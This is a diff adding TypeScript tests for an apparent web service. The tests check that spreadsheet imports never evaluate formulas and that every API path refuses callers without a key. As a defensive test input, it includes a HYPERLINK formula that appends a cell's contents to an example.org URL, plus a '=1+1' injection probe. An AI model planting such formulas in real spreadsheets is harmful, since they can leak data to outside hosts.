@@ -128,6 +128,54 @@ it('refuses a zip bomb that claims to be a spreadsheet, and goes on answering', 
   await unharmed()
 })
 
+/** The smallest workbook that Excel opens: one sheet whose cells are given as XML. */
+function workbook(rows: readonly string[]): Uint8Array<ArrayBuffer> {
+  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
+  const relations = 'http://schemas.openxmlformats.org/package/2006/relationships'
+  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+  const kind = 'application/vnd.openxmlformats-officedocument.spreadsheetml'
+  const files = {
+    '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="${kind}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${kind}.worksheet+xml"/></Types>`,
+    '_rels/.rels': `<Relationships xmlns="${relations}"><Relationship Id="r1" Type="${office}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
+    'xl/workbook.xml': `<workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="Outlets" sheetId="1" r:id="r1"/></sheets></workbook>`,
+    'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${relations}"><Relationship Id="r1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
+    'xl/worksheets/sheet1.xml': `<worksheet xmlns="${main}"><sheetData>${rows.join('')}</sheetData></worksheet>`,
+  }
+  return zipSync(
+    Object.fromEntries(Object.entries(files).map(([name, xml]) => [name, strToU8(xml)])),
+  ) as Uint8Array<ArrayBuffer>
+}
+
+it('takes the last value of a formula, never carries it out, and says that there were formulas', async () => {
+  const text = (cell: string, value: string) => `<c r="${cell}" t="inlineStr"><is><t>${value}</t></is></c>`
+  const formula = `<c r="A2" t="str"><f>HYPERLINK("http://example.org/"&amp;B2,"Corner")</f><v>Corner</v></c>`
+  const rows = [
+    `<row r="1">${text('A1', 'name')}${text('B1', 'state')}</row>`,
+    `<row r="2">${formula}${text('B2', '=1+1')}</row>`,
+  ]
+  const stored = await upload('outlets.xlsx', workbook(rows))
+  expect(stored.status).toBe(200)
+  const { fileId } = (await stored.json()) as { fileId: string }
+  const client = await running.client()
+  const started = await client.call(startImport, { kind: 'places.outlets', fileId })
+  expect(started).toMatchObject({ hasFormulas: true, sample: [['Corner', '=1+1']] })
+  await unharmed()
+})
+
+it('answers nobody without a key, whatever the operation', async () => {
+  const document = (await (await fetch(`${running.baseUrl}/api/openapi.json`)).json()) as {
+    openapi: string
+    paths: Record<string, { get?: object }>
+  }
+  expect(document.openapi).toBe('3.1.0')
+  for (const [path, item] of Object.entries(document.paths)) {
+    const request = item.get ? {} : { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }
+    const response = await fetch(`${running.baseUrl}${path}`, request)
+    expect(`${path} ${response.status}`).toBe(`${path} 401`)
+    await response.arrayBuffer()
+  }
+})
+
 it('refuses callers without a key, with a false key, and with a link that is none', async () => {
   const path = `${running.baseUrl}/api/v1/parties/list-parties`
   expect((await fetch(path)).status).toBe(401)
